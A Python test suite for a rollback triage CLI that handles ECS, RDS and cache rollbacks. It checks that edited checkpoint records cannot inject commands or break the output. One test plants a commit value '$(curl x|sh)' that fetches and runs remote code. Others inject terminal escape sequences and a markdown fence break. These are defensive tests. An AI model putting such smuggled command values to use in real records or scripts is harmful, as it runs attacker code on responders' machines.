"""Review of rollback triage (issue 28 item 5), attacked as a 3 a.m. responder and as someone who edited the shared
checkpoint records: recommendations that would skip a needed step, printed commands that do not work or run
something else, flags silently ignored, secrets recorded from the plan. Unit tests build the records; the CLI
tests run against the moto server (tests/rollback/conftest.py)."""

from __future__ import annotations

import json
from typing import Any

from tests.rollback.conftest import ENVIRONMENT, World, invoke
from tests.rollback.test_triage import TASK_DEFINITION, definitions, plan_json, record_changes
from toolkit.engine.pre_apply import applied_changes
from toolkit.records.checkpoints import (
    CHANGES_KEPT,
    AppliedChanges,
    ApplyRecord,
    ChangedResource,
    Checkpoint,
    StateVersion,
)
from toolkit.rollback.triage import Undone, recommend, skip_reason

LINEAGE = "6f1c2a7e-0000-4000-8000-000000000009"


def applied(checkpoint_id: str, serial: int, changes: AppliedChanges | None, *,
            commit: str = "0123456789abcdef0123456789abcdef01234567") -> Checkpoint:
    checkpoint = Checkpoint(id=checkpoint_id, environment=ENVIRONMENT, created_at="2026-12-07T03:00:00Z",
                            created_by="deployer@ci", git_commit=commit,
                            state=StateVersion(backend="s3", lineage=LINEAGE, serial=serial))
    checkpoint.apply = ApplyRecord(result="success", applied_by="deployer@ci", started_at="2026-12-07T03:00:01Z",
                                   state_serial_after=serial + 1, changed_state=True, changes=changes)
    return checkpoint


def change(address: str, kind: str, action: str) -> dict[str, Any]:
    return {"address": address, "mode": "managed", "type": kind, "name": address.rsplit(".", 1)[-1],
            "change": {"actions": {"update": ["update"], "delete": ["delete"], "create": ["create"]}[action],
                       "before": {}, "after": {}}}


def steps(advice: Any) -> list[str]:
    return [step for step, _ in advice.steps]


# --- wrong recommendations ---------------------------------------------------------------------------------------

def test_an_autoscaling_change_alone_is_undone_by_full() -> None:
    """An apply that lowered the scalable target's max (aws_appautoscaling_target) changed no ECS resource: the
    autoscaling step only suspends scaling, so nothing but `full` puts the old limits back."""
    plan = {"resource_changes": [change("module.compute.aws_appautoscaling_target.app", "aws_appautoscaling_target",
                                        "update")]}
    undone = Undone(applied("20261207T030000Z-0001", 8, applied_changes(plan)))
    undone.applies = [undone.checkpoint]
    advice = recommend(ENVIRONMENT, undone)
    assert "full" in steps(advice), advice
    assert any("--step full" in command for command in advice.commands), advice.commands


def test_a_truncated_change_list_skips_nothing() -> None:
    """Only the first CHANGES_KEPT addresses are kept: a parameter group beyond them is not "untouched"."""
    plan = {"resource_changes": [change(f"aws_ssm_parameter.p[{index}]", "aws_ssm_parameter", "update")
                                 for index in range(CHANGES_KEPT)]
            + [change("module.database.aws_db_parameter_group.main", "aws_db_parameter_group", "update"),
               change("module.cache.aws_elasticache_replication_group.main", "aws_elasticache_replication_group",
                      "delete"),
               change("module.database.aws_db_instance.main", "aws_db_instance", "delete")]}
    changes = applied_changes(plan)
    assert sum(changes.counts.values()) == CHANGES_KEPT + 3 and len(changes.resources) == CHANGES_KEPT
    undone = Undone(applied("20261207T030000Z-0001", 8, changes))
    undone.applies = [undone.checkpoint]
    assert skip_reason("db-parameter-group", undone) is None
    assert skip_reason("cache-disable", undone) is None
    assert skip_reason("db-restore", undone) is None


def test_counts_that_name_more_than_the_resources_skip_nothing() -> None:
    """An edited record (or a truncated one) whose counts and resources disagree is not trusted to skip."""
    changes = AppliedChanges(counts={"update": 1, "delete": 1},
                             resources=[ChangedResource("module.compute.aws_ecs_service.app", "aws_ecs_service",
                                                        "update")])
    undone = Undone(applied("20261207T030000Z-0001", 8, changes))
    undone.applies = [undone.checkpoint]
    assert not undone.known
    assert skip_reason("db-restore", undone) is None


def test_full_after_several_applies_is_printed_with_the_consent_it_needs(world: World, cli) -> None:
    """Rolling back to an older checkpoint undoes the later applies too: `full` refuses without --also-undo for
    each, so the command triage prints must carry them (they are listed right above it)."""
    replica = change("module.database.aws_db_instance.replica[0]", "aws_db_instance", "update")
    record_changes(world, plan_json(replica))
    later = applied(world.store.next_id(), 8, applied_changes(plan_json()),
                    commit="fedcba9876543210fedcba9876543210fedcba98")
    later.state.lineage = later.apply.state_lineage = "6f1c2a7e-0000-4000-8000-000000000001"  # type: ignore[union-attr]
    world.store.save(later)
    result = invoke(cli, "rollback", ENVIRONMENT, "--to", world.checkpoint_id, "--format", "json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.output)
    assert [item["checkpoint"] for item in document["undone"]] == [world.checkpoint_id, later.id]
    full = [command for command in document["commands"] if "--step full" in command]
    assert full and all(f"--also-undo {later.id}" in command for command in full), document["commands"]
    # As printed (dry run), the step plans instead of refusing.
    dry = invoke(cli, *full[0].split()[1:], "--endpoint-url", world.endpoint)
    assert "would also undo" not in dry.output, dry.output


# --- flags -------------------------------------------------------------------------------------------------------

def test_include_of_a_step_outside_the_tier_is_refused(world: World, cli, proxy) -> None:
    """`--tier immediate --include db-restore` would run no restore: said, not silently ignored."""
    result = invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate", "--include", "db-restore")
    assert result.exit_code == 1, result.output
    assert "--include db-restore: not a step of tier immediate (ecs-task-definition, autoscaling)" in result.output
    assert proxy.calls == []
    long = invoke(cli, "rollback", ENVIRONMENT, "--tier", "long", "--include", "cache-disable")
    assert long.exit_code == 1, long.output
    assert "not a step of tier long" in long.output


# --- hostile records ---------------------------------------------------------------------------------------------

def test_an_edited_commit_never_becomes_a_printed_command(world: World, cli) -> None:
    """The commit comes from a record anyone with the bucket can edit: `git revert $(…)` pasted at 3 a.m. runs it."""
    checkpoint = world.store.load(world.checkpoint_id)
    checkpoint.git_commit = "$(curl x|sh)"
    world.store.save(checkpoint)
    result = invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate")
    assert result.exit_code == 0, result.output
    assert "$(curl" not in result.output.split("Still to do:")[1], result.output
    assert "not a commit id" in result.output


def test_hostile_records_neither_crash_triage_nor_the_listing(world: World, cli) -> None:
    path = world.store.where(world.checkpoint_id)
    record = json.loads(world.store.records.get(f"{world.checkpoint_id}.json"))
    record["rollback_of"] = world.checkpoint_id   # pointing at itself
    record["apply"]["changes"] = {"counts": {"update": 1}, "resources": [
        {"address": "a" * 200_000, "type": "aws_db_instance\x1b[2J", "action": "delete"}],
        "images": [{"address": TASK_DEFINITION, "container": "app", "before": "x" * 100_000, "after": None}]}
    world.store.records.put(f"{world.checkpoint_id}.json", json.dumps(record).encode())
    for args in (("rollback", ENVIRONMENT), ("rollback", ENVIRONMENT, "--format", "json"),
                 ("rollback", ENVIRONMENT, "--to", world.checkpoint_id), ("checkpoints", ENVIRONMENT)):
        result = invoke(cli, *args)
        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
        assert "\x1b" not in result.output
        # A field is shown cut, never 200 kB on the responder's screen (json carries it whole, for machines).
        assert "json" in args or max(len(line) for line in result.output.splitlines()) < 2_000, (args, path)
    wrong = dict(record, apply=dict(record["apply"], changes={"counts": {"update": "1"}, "resources": "db"}))
    world.store.records.put(f"{world.checkpoint_id}.json", json.dumps(wrong).encode())
    result = invoke(cli, "rollback", ENVIRONMENT, "--to", world.checkpoint_id)
    assert result.exit_code != 0 and "unreadable checkpoint" in result.output and "apply.changes" in result.output


# --- secrets -----------------------------------------------------------------------------------------------------

def test_a_sensitive_container_definition_records_no_image() -> None:
    """A container definition built from a sensitive value is shown in clear by `terraform show -json` (marked in
    before_sensitive/after_sensitive): its images are recorded as sensitive, never their text."""
    plan = plan_json(image_after="registry.example/app:token-s3cr3t")
    body = plan["resource_changes"][0]["change"]
    body["after_sensitive"] = {"container_definitions": True}
    body["before_sensitive"] = {"container_definitions": True}
    changes = applied_changes(plan)
    assert "s3cr3t" not in json.dumps([vars(item) for item in changes.images])
    assert [(item.container, item.before, item.after) for item in changes.images] == [
        ("app", "(sensitive)", "(sensitive)")]


def test_a_secret_shaped_image_is_masked() -> None:
    plan = plan_json(image_after="https://deploy:hunter2-long-password@registry.example/app:2")
    recorded = applied_changes(plan).images
    assert recorded and "hunter2" not in json.dumps([vars(item) for item in recorded])
    assert definitions("x")  # the shared helper stays in use


# --- heartbeats --------------------------------------------------------------------------------------------------

def test_the_full_steps_terraform_run_heartbeats(monkeypatch) -> None:
    """`--step full` runs terraform plan and apply (RDS changes: up to an hour): it beats like every other wait,
    once per 30 s however chatty terraform is, with secrets in its output masked."""
    from toolkit.rollback import full

    clock = [1000.0]
    monkeypatch.setattr(full.time, "monotonic", lambda: clock[0])
    heard: list[str] = []
    progress = full.HeartbeatProgress(heard.append)
    progress.step(ENVIRONMENT, "apply 1 (+0 ~1 -0)")
    for second in range(1, 95):       # "Still modifying…" every second for 94 s
        clock[0] = 1000.0 + second
        progress.line(ENVIRONMENT, f"aws_db_instance.main: Still modifying... [{second}s] password=hunter2-xyz")
    progress.still_running(ENVIRONMENT, "apply", 94.0)   # 4 s after the last beat: not yet
    assert [line.split(f"{ENVIRONMENT} (", 1)[1].split(" s)")[0] for line in heard] == ["30", "60", "90"]
    assert heard[0].startswith(f"still running apply 1 (+0 ~1 -0) for {ENVIRONMENT} (30 s): aws_db_instance.main")
    assert not any("hunter2" in line for line in heard)
    silent = full.HeartbeatProgress(None)
    silent.step(ENVIRONMENT, "nothing heard")     # no heartbeat wired: nothing raised


def test_the_full_step_passes_its_heartbeat_to_the_engine(monkeypatch) -> None:
    from types import SimpleNamespace

    from toolkit.engine import apply as engine_apply
    from toolkit.rollback import full

    seen: dict[str, Any] = {}

    def fake_plan(self, run, plan):
        return SimpleNamespace(has_changes=True, saved=SimpleNamespace(
            metadata=SimpleNamespace(plan_id="p1", summary=SimpleNamespace(text=lambda: "+0 ~1 -0")),
            plan_json="unused"))

    def fake_apply(**kwargs):
        seen.update(kwargs)
        clock[0] += 31
        kwargs["progress"].step(ENVIRONMENT, "apply p1")
        return SimpleNamespace(plan_id="p1", checkpoint_id="c2")

    heard: list[str] = []
    clock = [1000.0]
    monkeypatch.setattr(full.time, "monotonic", lambda: clock[0])
    monkeypatch.setattr(full.FullStep, "_plan", fake_plan)
    monkeypatch.setattr(full, "review_lines", lambda *args: [])
    monkeypatch.setattr(engine_apply, "apply_environment", fake_apply)
    run = SimpleNamespace(heartbeat=heard.append, record=lambda **fields: None, echo=heard.append,
                          act=lambda step, action, function, summary, **request: function(**request),
                          project=None, environment=ENVIRONMENT, approve=None, confirm=None,
                          options=SimpleNamespace(allow_destroy=()))
    plan = SimpleNamespace(data={"commit": "0123456789abcdef", "source": None})
    full.FullStep().execute(run, plan)  # type: ignore[arg-type]
    assert isinstance(seen["progress"], full.HeartbeatProgress)
    assert heard == [f"still running apply p1 for {ENVIRONMENT} (31 s)"]


# --- still to do -------------------------------------------------------------------------------------------------

def test_switching_the_cache_back_on_never_redeploys_the_broken_revision(world: World, cli) -> None:
    """After the immediate tier (bad :2 → good :1) and cache-disable (:3, from :1), "switch the cache back on" must
    go back to :1, the revision cache-disable replaced: `--revision previous` is :2, the broken image, which
    modules/compute keeps ACTIVE (skip_destroy)."""
    fast = ("--poll-interval", "0.05")
    assert invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate", "--yes", *fast).exit_code == 0
    assert world.service()["taskDefinition"] == world.good_arn
    result = invoke(cli, "rollback", ENVIRONMENT, "--step", "cache-disable", "--yes", *fast)
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    todo = lines[lines.index("Still to do:"):]
    back = next(line.strip() for line in todo if "--step ecs-task-definition" in line)
    assert "--revision 1 " in back and "previous" not in back, back
    again = invoke(cli, *back.split()[1:], *fast)
    assert again.exit_code == 0, again.output
    assert world.service()["taskDefinition"] == world.good_arn


# --- prod stays protected on every printed command ---------------------------------------------------------------

def test_no_printed_command_carries_prods_approval(world: World, cli, proxy) -> None:
    """The triage commands and the "still to do" of an approved prod run are pasted at 3 a.m.: none carries
    --approve, so each still needs the typed name (and without a terminal changes nothing)."""
    from toolkit.config import load_environment
    from toolkit.records.places import checkpoint_store_for

    source = world.store.load(world.checkpoint_id)   # the sandbox world's record filed under prod too
    source.environment = "prod"
    checkpoint_store_for(world.project, load_environment(world.project, "prod")).save(source)
    triage = invoke(cli, "rollback", "prod", "--format", "json")
    assert triage.exit_code == 0, triage.output
    commands = json.loads(triage.output)["commands"]
    run = invoke(cli, "rollback", "prod", "--tier", "immediate", "--yes", "--approve", "prod", "--format", "json",
                 "--poll-interval", "0.05")
    assert run.exit_code == 0, run.output
    commands += [item["command"] for item in json.loads(run.output)["still_to_do"]]
    pasted = [command for command in commands if command.startswith("toolkit rollback prod") and "--yes" in command]
    assert pasted, commands
    assert not any("--approve" in command for command in commands), commands
    proxy.reset()
    for command in pasted:
        result = invoke(cli, *command.split()[1:], terminal=False)
        assert result.exit_code == 1 and "prod is protected: add --approve prod" in result.output, (command,
                                                                                                    result.output)
    assert proxy.mutating_calls() == []


def test_a_stopped_json_run_still_says_what_is_left(world: World, cli) -> None:
    """With --format json the "still to do" of a run that stopped was only inside the error's text: scripts and
    incident bots got an empty list exactly when autoscaling was left suspended."""
    world.client("ecs").deregister_task_definition(taskDefinition=world.good_arn)
    result = invoke(cli, "rollback", ENVIRONMENT, "--tier", "immediate", "--yes", "--format", "json",
                    "--poll-interval", "0.05")
    assert result.exit_code == 1, result.output
    document = json.loads(result.output[:result.output.rindex("}") + 1])
    assert document["error"] and "cannot work" in document["error"]
    commands = [item["command"] for item in document["still_to_do"]]
    assert commands and commands[0] == f"toolkit rollback {ENVIRONMENT} --step full --to {world.checkpoint_id} --yes"
    assert commands[-1] == f"toolkit plan {ENVIRONMENT}"


def test_markdown_triage_cannot_be_closed_by_a_record(world: World, cli) -> None:
    plan = plan_json(image_after="app:3````\n@channel deploy now")
    record_changes(world, plan)
    result = invoke(cli, "rollback", ENVIRONMENT, "--format", "md")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    fence = lines[0]
    assert set(fence) == {"`"} and len(fence) > 4 and lines[-1] == fence
    assert not any(line.startswith("```") for line in lines[1:-1]), result.output


def test_an_apply_that_stopped_half_way_reads_as_planned_not_changed(world: World, cli) -> None:
    replica = change("module.database.aws_db_instance.replica[0]", "aws_db_instance", "delete")
    record_changes(world, plan_json(replica))
    checkpoint = world.store.load(world.checkpoint_id)
    assert checkpoint.apply is not None
    checkpoint.apply.result, checkpoint.apply.changed_state = "failed", True
    world.store.update_apply(checkpoint.id, checkpoint.apply)
    result = invoke(cli, "rollback", ENVIRONMENT)
    assert result.exit_code == 0, result.output
    assert ("    planned: +0 ~1 -1 ±1 (create, update, delete, replace); the apply failed, so only part of it may "
            "have happened") in result.output.splitlines()
    # Nothing is skipped for what it may have done: the restore stays recommended.
    assert any(". db-restore:" in line for line in result.output.splitlines()), result.output
